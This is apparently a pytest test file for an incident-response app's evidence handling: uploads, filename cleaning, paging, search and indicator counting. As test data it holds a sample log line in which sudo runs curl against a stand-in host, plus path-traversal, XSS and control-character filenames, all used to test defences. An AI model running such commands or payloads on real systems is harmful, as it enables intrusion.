"""Evidence through the door: kept whole, named safely, paged, searched and counted line by line."""

import hashlib
import io
from pathlib import Path
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import AsyncClient, Client
from hypothesis import given
from hypothesis import strategies as st

from sessions_app import actors
from sessions_app.errors import Invalid, NotFound, Refused
from sessions_app.models import Event, Evidence, Incident
from sessions_app.services import evidence, evidence_counts, indicators
from sessions_app.services.files import LONGEST_LINE, clean_name
from tests import factories

LOG = """\
Nov 20 03:00:01 gate-1 sshd[1]: Failed password for root from 203.0.113.5 port 1 ssh2
Nov 20 03:00:02 gate-1 sshd[1]: Failed password for root from 203.0.113.5 port 1 ssh2
Nov 20 03:00:03 gate-1 sshd[2]: Failed password for invalid user oracle from 203.0.113.55 port 2 ssh2
Nov 20 03:09:00 gate-1 sshd[3]: Accepted password for kim from 203.0.113.5 port 3 ssh2
Nov 20 03:10:00 gate-1 sudo: kim : TTY=pts/0 ; USER=root ; COMMAND=/usr/bin/curl http://drop.bad.example/x
"""


@pytest.fixture
def incident(db: None) -> Incident:
    return factories.incident()


@pytest.fixture
def responder(client: Client, incident: Incident) -> Client:
    client.force_login(factories.user(role="responder"))
    return client


def upload(client: Client, incident: Incident, content: bytes = LOG.encode(), name: str = "auth.log") -> Any:
    file = SimpleUploadedFile(name, content, "text/html")
    return client.post(f"/api/v1/incidents/{incident.pk}/evidence", {"file": file})


def attached(incident: Incident, text: str | bytes, name: str = "a.log") -> Evidence:
    content = text.encode() if isinstance(text, str) else text
    return evidence.attach(incident=incident, filename=name, stream=io.BytesIO(content), by=actors.SYSTEM)


def test_a_file_becomes_evidence_with_its_hash_and_its_bearer(responder: Client, incident: Incident) -> None:
    answer = upload(responder, incident)
    assert answer.status_code == 201
    told = answer.json()
    assert told["sha256"] == hashlib.sha256(LOG.encode()).hexdigest()
    assert (told["filename"], told["size"], told["lines"]) == ("auth.log", len(LOG), 5)
    assert told["content_type"] == "text/plain"
    assert told["uploaded_by"]
    listed = responder.get(f"/api/v1/incidents/{incident.pk}/evidence").json()["data"]
    assert listed == [told]
    types = list(Event.objects.filter(session=incident.room_id).order_by("seq").values_list("type", flat=True))
    assert types[0] == "evidence.added"
    assert "indicator.added" in types


def test_what_a_file_names_is_merged_into_the_indicators(responder: Client, incident: Incident) -> None:
    upload(responder, incident)
    upload(responder, incident)
    counts = dict(incident.indicators.values_list("value", "seen_count"))
    assert counts["203.0.113.5"] == 6
    assert counts["drop.bad.example"] == 2


def test_the_file_comes_back_as_a_download_only(responder: Client, incident: Incident) -> None:
    told = upload(responder, incident, b"<script>alert(1)</script>\n", "page.html").json()
    answer = responder.get(told["download_url"])
    assert b"".join(answer) == b"<script>alert(1)</script>\n"
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"] == 'attachment; filename="page.html"'
    assert answer["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db(transaction=True)
async def test_the_file_streams_under_asgi_too(async_client: AsyncClient) -> None:
    incident = await sync_to_async(factories.incident)()
    row = await sync_to_async(attached)(incident, "x" * 600_000 + "\n")
    await async_client.aforce_login(await sync_to_async(factories.user)())
    answer = await async_client.get(f"/api/v1/evidence/{row.pk}")
    pieces = [len(piece) async for piece in answer]
    assert sum(pieces) == 600_001
    assert max(pieces) <= 256 * 1024


def test_lines_are_paged_and_searched(responder: Client, incident: Incident) -> None:
    many = "".join(f"line {n} {'odd' if n % 2 else 'even'}\n" for n in range(1, 3501))
    row = attached(incident, many)
    path = f"/api/v1/incidents/{incident.pk}/evidence/{row.pk}/lines"
    page = responder.get(path, {"after": 2500, "limit": 2}).json()
    assert page["data"] == [{"line": 2501, "text": "line 2501 odd"}, {"line": 2502, "text": "line 2502 even"}]
    following = responder.get(path, {"cursor": page["next"], "limit": 1}).json()
    assert following["data"][0]["line"] == 2503
    found = responder.get(path, {"q": "EVEN line", "limit": 2, "after": 3496}).json()
    assert [each["line"] for each in found["data"]] == [3498, 3500]
    assert found["next"] is None
    assert responder.get(f"/api/v1/evidence/{row.pk}/lines", {"q": "odd", "limit": 1}).json()["data"][0]["line"] == 1
    assert responder.get(path, {"after": 99_999}).json() == {"data": [], "next": None, "lines": 3500}


@pytest.mark.parametrize("wrong", [{"limit": "0"}, {"limit": "x"}, {"after": "-1"}, {"q": "a " * 20}])
def test_a_wrong_question_is_refused(responder: Client, incident: Incident, wrong: dict[str, str]) -> None:
    row = attached(incident, LOG)
    answer = responder.get(f"/api/v1/evidence/{row.pk}/lines", wrong)
    assert (answer.status_code, answer.json()["error_code"]) == (400, "INVALID_REQUEST")


def test_what_is_longer_than_allowed_is_refused_and_not_kept(
    responder: Client, incident: Incident, settings: Any
) -> None:
    settings.WARROOM_EVIDENCE_MAX_BYTES = 1000
    before = stored_files()
    answer = upload(responder, incident, b"x" * 2000)
    assert (answer.status_code, answer.json()["error_code"]) == (413, "PAYLOAD_TOO_LARGE")
    with pytest.raises(Refused, match="PAYLOAD_TOO_LARGE"):
        attached(incident, "y" * 1001)
    assert not Evidence.objects.exists()
    assert stored_files() == before


def test_a_record_that_fails_takes_its_file_with_it(incident: Incident) -> None:
    before = stored_files()
    never_saved = Incident(organization=incident.organization)
    with pytest.raises(NotFound):
        attached(never_saved, LOG)
    assert stored_files() == before


def stored_files() -> set[str]:
    return {path.name for path in Path(settings.WARROOM_UPLOADS).iterdir()}


def test_a_form_without_a_file_and_a_body_that_is_no_form_are_refused(responder: Client, incident: Incident) -> None:
    path = f"/api/v1/incidents/{incident.pk}/evidence"
    assert responder.post(path, {"note": "no file"}).json()["error_code"] == "INVALID_REQUEST"
    assert responder.post(path, b"{}", "application/json").status_code == 415


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\kim\\evil.log", "evil.log"),
        (".htaccess", "htaccess"),
        ("a\x00b\r\n\u202egol.exe", "abgol.exe"),
        ("", "evidence"),
        ("...", "evidence"),
        ('<img src="x">.svg', "img src=x.svg"),
        ("x" * 400 + ".log", "x" * 176 + ".log"),
        ("протокол.log", "протокол.log"),
    ],
)
def test_a_name_is_cleaned(sent: str, kept: str) -> None:
    assert clean_name(sent) == kept


@given(st.text())
def test_any_name_becomes_a_safe_one(sent: str) -> None:
    name = clean_name(sent)
    assert 0 < len(name) <= 180
    assert not set(name) & set('/\\<>:"|?*\x00\n\r')


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"\x89PNG\r\n\x1a\n....", "image/png"),
        (b"\x1f\x8b\x08rest", "application/gzip"),
        (b"\x7fELF" + b"\0" * 60, "application/x-executable"),
        (b"\0" * 99, "application/octet-stream"),
    ],
)
def test_what_is_no_text_is_kept_but_not_read_as_lines(
    responder: Client, incident: Incident, content: bytes, kind: str
) -> None:
    told = upload(responder, incident, content, "thing.bin").json()
    assert (told["lines"], told["content_type"]) == (None, kind)
    assert responder.get(f"/api/v1/evidence/{told['id']}/lines").json()["data"] == []


def test_hostile_bytes_in_a_log_are_shown_as_text(incident: Incident) -> None:
    row = attached(incident, b"ok line\nbad \xff\xfe\x00 bytes 203.0.113.9\r\nlast \xe2\x82")
    assert [line.text for line in evidence.lines(row)] == [
        "ok line",
        "bad \ufffd\ufffd\ufffd bytes 203.0.113.9",
        "last \ufffd",
    ]
    assert evidence.search(incident, "203.0.113.9").total == 1


def test_a_file_without_line_breaks_is_cut_into_lines(incident: Incident) -> None:
    row = attached(incident, b"z" * (LONGEST_LINE * 3 + 10))
    assert row.lines == 4
    assert [line.number for line in evidence.lines(row, 3, 10)] == [3, 4]


@pytest.mark.parametrize(("text", "lines"), [("", 0), ("\n", 1), ("a", 1), ("a\nb", 2), ("a\n\nb\n", 3)])
def test_lines_are_counted_as_an_editor_counts_them(incident: Incident, text: str, lines: int) -> None:
    row = attached(incident, text)
    assert row.lines == lines
    assert len(evidence.lines(row)) == lines


def test_a_search_takes_all_words_in_any_case_and_an_address_as_a_whole(incident: Incident) -> None:
    attached(incident, LOG)
    assert evidence.search(incident, "FAILED root").total == 2
    assert [hit.line for hit in evidence.search(incident, "203.0.113.5").hits] == [1, 2, 4]
    assert evidence.search(incident, "203[.]0[.]113[.]55").total == 1
    assert evidence.search(incident, "bad.example").hits[0].line == 5
    assert evidence.search(incident, "nothing such").total == 0
    shown = evidence.search(incident, "gate-1", limit=2)
    assert (shown.total, len(shown.hits)) == (5, 2)
    for wrong in ("", "  ", "x" * 501, "w " * 11):
        with pytest.raises(Invalid):
            evidence.search(incident, wrong)


def test_words_of_other_alphabets_are_found_in_any_case(incident: Incident) -> None:
    attached(incident, "Überlauf im Puffer\n")
    assert evidence.search(incident, "ÜBERLAUF").total == 1


def test_the_raw_alert_speaks_where_no_file_does(incident: Incident) -> None:
    evidence.attach_alert(
        incident=incident, source="siem", raw={"src": "203.0.113.5", "note": "Büro"}, by=actors.SYSTEM
    )
    assert evidence.search(incident, "büro").hits[0].text == ' "note": "Büro"'
    assert evidence.search(incident, "203.0.113.5").total == 1
    assert [count.value for count in evidence.summarize(incident).addresses] == ["203.0.113.5"]
    attached(incident, LOG)
    assert evidence.search(incident, "203.0.113.5").total == 3
    assert evidence.search(incident, "büro").total == 1
    counts = {count.value: count.count for count in evidence.summarize(incident).addresses}
    assert counts == {"203.0.113.5": 3, "203.0.113.55": 1}


def test_a_summary_counts_who_where_and_when(incident: Incident) -> None:
    attached(incident, LOG)
    summary = evidence.summarize(incident)
    assert (summary.files, summary.lines, summary.failed, summary.accepted) == (1, 5, 3, 1)
    worst = summary.addresses[0]
    assert (worst.value, worst.count, worst.failed, worst.accepted) == ("203.0.113.5", 3, 2, 1)
    assert [hit.line for hit in worst.examples] == [1, 2, 4]
    assert [hit.line for hit in worst.accepted_examples] == [4]
    assert worst.first is not None
    assert worst.last is not None
    assert (worst.first.minute, worst.last.minute) == (0, 9)
    assert {count.value: count.count for count in summary.users} == {"root": 3, "oracle": 1, "kim": 2}
    assert [(host.value, host.count) for host in summary.hosts] == [("gate-1", 5)]
    assert summary.bucket_minutes == 1
    assert [bucket.count for bucket in summary.buckets] == [3, 1, 1]


def test_counting_ends_in_time_and_says_so(incident: Incident, monkeypatch: pytest.MonkeyPatch) -> None:
    evidence.attach_alert(incident=incident, source="siem", raw={"src": "203.0.113.5"}, by=actors.SYSTEM)
    attached(incident, LOG)
    assert not evidence.summarize(incident).cut
    monkeypatch.setattr(evidence_counts, "TALLY_SECONDS", -1)
    summary = evidence.summarize(incident)
    assert (summary.lines, summary.cut) == (0, True)


def test_an_incident_without_evidence_has_an_empty_summary(incident: Incident) -> None:
    summary = evidence.summarize(incident)
    assert (summary.lines, summary.addresses, summary.buckets, summary.first) == (0, [], [], None)


def test_an_indicator_is_described_from_evidence_and_other_incidents(incident: Incident) -> None:
    attached(incident, LOG)
    other = factories.incident(title="Last week")
    attached(other, "GET / from 203.0.113.5\n")
    stranger = factories.incident(factories.organization("other"))
    attached(stranger, "GET / from 203.0.113.5\n")
    told = indicators.describe(incident, "203[.]0[.]113[.]5")
    assert (told.value, told.kind, told.private, told.count) == ("203.0.113.5", "ip", False, 3)
    assert [(seen.filename, seen.lines) for seen in told.seen_in] == [("a.log", [1, 2, 4])]
    assert [(each.id, each.title) for each in told.other_incidents] == [(other.pk, "Last week")]
    assert indicators.describe(incident, "10.1.1.1").private is True
    assert indicators.describe(incident, "kim").kind == "user"
    unknown = indicators.describe(incident, "nobody")
    assert (unknown.kind, unknown.count, unknown.other_incidents) == (None, 0, [])


def test_another_organisations_evidence_is_not_found(client: Client, incident: Incident) -> None:
    row = attached(incident, LOG)
    client.force_login(factories.user(role="commander", org=factories.organization("other")))
    mine = factories.incident(factories.organization("other"))
    for path in (
        f"incidents/{incident.pk}/evidence",
        f"incidents/{incident.pk}/evidence/{row.pk}",
        f"incidents/{incident.pk}/evidence/{row.pk}/lines",
        f"incidents/{mine.pk}/evidence/{row.pk}/lines",
        f"evidence/{row.pk}",
        f"evidence/{row.pk}/lines?q=root",
        f"incidents/{incident.pk}/indicators",
    ):
        assert client.get(f"/api/v1/{path}").status_code == 404
    assert upload(client, incident).status_code == 404
    assert Evidence.objects.count() == 1


def test_an_observer_looks_and_does_not_attach(client: Client, incident: Incident) -> None:
    row = attached(incident, LOG)
    client.force_login(factories.user(role="observer"))
    assert client.get(f"/api/v1/evidence/{row.pk}/lines").status_code == 200
    assert upload(client, incident).status_code == 403
